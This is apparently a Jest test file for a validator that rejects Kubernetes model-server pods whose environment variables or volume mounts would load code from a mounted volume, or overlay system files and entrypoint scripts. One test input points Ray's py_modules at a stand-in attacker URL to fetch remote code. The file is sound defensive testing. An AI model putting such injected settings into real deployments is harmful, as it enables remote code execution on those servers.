import { describe, expect, it } from "@jest/globals";
import type { Json } from "../support/builders/json.ts";
import { good, passesAsGood, readPod, serveGood, server } from "./good-server.ts";

const files: Json = { volumes: [{ name: "v", configMap: { name: "c" } }] };
const isGood = (container: Json): boolean => passesAsGood(readPod({ containers: [container], ...files }));
const mounted = (at: string, subPath?: string): Json => ({ volumeMounts: [{ name: "v", mountPath: at, subPath }] });
const variable = (name: string, value: string): Json => ({ env: [{ name, value }] });

describe("a variable that names code on a volume", () => {
  const servesWith = (name: string, value: string): boolean =>
    isGood(server({ command: serveGood, ...variable(name, value), ...mounted("/v") }));

  it.each([
    ["CUDA_HOME", "/v/cuda"],
    ["CPATH", "/usr/include:/v"],
    ["CFLAGS", "-O2 -I/v/include"],
    ["TRITON_PLUGIN_PATHS", "/v/x.so"],
    ["TRITON_PTXAS_BLACKWELL_PATH", "/v/ptxas"],
    ["NCCL_CONF_FILE", "/v/nccl.conf"],
    ["NIXL_PLUGIN_DIR", "/v"],
    ["UCX_MODULE_DIR", "/v"],
    ["TPU_LIBRARY_PATH", "/v/libtpu.so"],
    ["PJRT_NAMES_AND_LIBRARY_PATHS", "tpu:/v/x.so"],
    ["NEURON_COMPILED_ARTIFACTS", "/v/artifacts"],
    ["OCL_ICD_FILENAMES", "libgood.so:/v/x.so"],
    ["CUDA_HOME", "v/cuda"],
    ["CUDA_HOME", "../v"],
    ["CPATH", "."],
    ["CFLAGS", "-I../v"],
    ["CFLAGS", "-I."],
    ["NCCL_CONF_FILE", "./v/nccl.conf"],
    ["RAY_JOB_CONFIG_JSON_ENV_VAR", '{"runtime_env":{"py_modules":["https://mallory.example/x.zip"]}}'],
  ])("%s=%s", (name, value) => expect(servesWith(name, value)).toBe(false));

  it.each([
    ["CUDA_HOME", "/usr/local/cuda"],
    ["CPATH", "/usr/local/cuda/include:/usr/include"],
    ["CFLAGS", "-O2 -march=native"],
    ["LDFLAGS", "-L/usr/lib -Wl,-rpath,/usr/lib"],
    ["UCX_MODULE_DIR", ""],
    ["OCL_ICD_FILENAMES", "libintelocl.so"],
    ["TPU_LIBRARY_PATH", "/usr/lib/libtpu.so"],
  ])("%s=%s is the image's", (name, value) => expect(servesWith(name, value)).toBe(true));
});

describe("a volume over what programs and libraries read when they start", () => {
  it.each([
    "/etc/passwd",
    "/etc/ssl",
    "/etc/ssl/openssl.cnf",
    "/etc/openmpi",
    "/etc/libibverbs.d",
    "/etc/nccl.conf",
    "/etc/ucx",
    "/usr/include",
    "/nix/store",
    "/prod_venv",
    "/root/anaconda3",
    "/opt/mambaforge",
    "/root/.nccl.conf",
    "/root/.openmpi",
  ])("%s", (at) => expect(isGood(server({ command: serveGood, ...mounted(at) }))).toBe(false));

  it.each(["/etc/ssl/certs", "/etc/localtime", "/etc/vllm", "/scripts", "/etc/config"])("not %s", (at) =>
    expect(isGood(server({ command: serveGood, ...mounted(at) }))).toBe(true),
  );
});

describe("a volume over the script or program by which an image starts", () => {
  const images: readonly (readonly [string, readonly string[]])[] = [
    ["vllm/vllm-openai:1", ["--model", good]],
    ["ghcr.io/huggingface/text-generation-inference:3", ["--model-id", good]],
    ["ghcr.io/ggml-org/llama.cpp:server", ["-hf", good]],
  ];
  const places = [
    "/tgi-entrypoint.sh",
    "/entrypoint.sh",
    "/entrypoint",
    "/docker-entrypoint.d",
    "/opt/nvidia/nvidia_entrypoint.sh",
    "/opt/nim",
    "/app/llama-server",
    "/app/start",
    "/start.sh",
  ];

  it.each(images)("%s", (image, args) => {
    expect(isGood(server({ image, args, ...mounted("/prompts") }))).toBe(true);
    const replaced = places.filter((at) => isGood(server({ image, args, ...mounted(at, "x") })));
    expect(replaced).toEqual([]);
  });

  it("counts for nothing where the container says what runs", () => {
    expect(isGood(server({ command: serveGood, ...mounted("/scripts/start.sh", "x") }))).toBe(true);
  });
});
